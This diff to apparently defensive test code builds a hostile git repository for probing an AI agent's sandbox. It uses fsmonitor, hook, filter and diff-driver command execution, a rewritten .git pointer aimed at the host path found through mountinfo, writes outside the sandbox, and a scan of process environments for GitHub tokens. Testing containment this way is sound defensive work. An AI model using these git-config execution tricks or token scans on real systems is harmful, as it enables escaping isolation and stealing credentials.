@@ -51,7 +51,9 @@ function hostile(mark: string, outside: string): string {
   const run = (what: string) => `echo ${what} cage=\${CLAUDE_CONFIG_DIR:+yes} >> ${m}; cat`
   const cfg = (key: string, value: string) => `git --git-dir=.evil config '${key}' '${value}'`
   return [
-    'rm -rf .evil && git init -q --bare .evil',
+    // Planted once per tree (setup's stays for the worker): a repository the host could open.
+    'if [ ! -d .evil ]; then',
+    'git init -q --bare .evil',
     cfg('core.bare', 'false'),
     cfg('core.fsmonitor', `echo fsmonitor cage=\${CLAUDE_CONFIG_DIR:+yes} >> ${m}; false`),
     'mkdir -p .evil/hooks',
@@ -65,9 +67,16 @@ function hostile(mark: string, outside: string): string {
     cfg('diff.evil.textconv', run('textconv')),
     cfg('diff.evil.command', run('diff')),
     cfg('merge.evil.driver', run('merge')),
+    // An index of its own with a tracked file in it, its stat data old (never racily clean): a git
+    // that opens .evil, once the file is touched, must read it again, through the clean filter.
+    "touch -d '2001-01-01' README.md && GIT_DIR=.evil GIT_WORK_TREE=. git add README.md",
+    'fi',
     `printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes`,
+    'touch README.md',
+    // The task's files' path on the host, as a container's mount table tells it.
+    'host=$PWD; while read -r _ _ _ root at _; do [ "$at" = "$PWD" ] && host=$root; done < /proc/self/mountinfo',
     // The pointer the action's git would follow, rewritten (or refused where it is read-only).
-    `{ printf 'gitdir: %s/.evil\\n' "$PWD" > .git && echo GITFILE-REWRITTEN; } 2>/dev/null || echo GITFILE-KEPT`,
+    `{ printf 'gitdir: %s/.evil\\n' "$host" > .git && echo GITFILE-REWRITTEN; } 2>/dev/null || echo GITFILE-KEPT`,
     `{ echo changed >> '${outside}' && echo OUTSIDE-WRITTEN; } 2>/dev/null || echo OUTSIDE-KEPT`,
     `n=$({ env; cat /proc/[0-9]*/environ; } 2>/dev/null | tr '\\0' '\\n' | grep -c ghs_); echo "TOKENS-SEEN=$n"`,
     'echo STEP-OK'
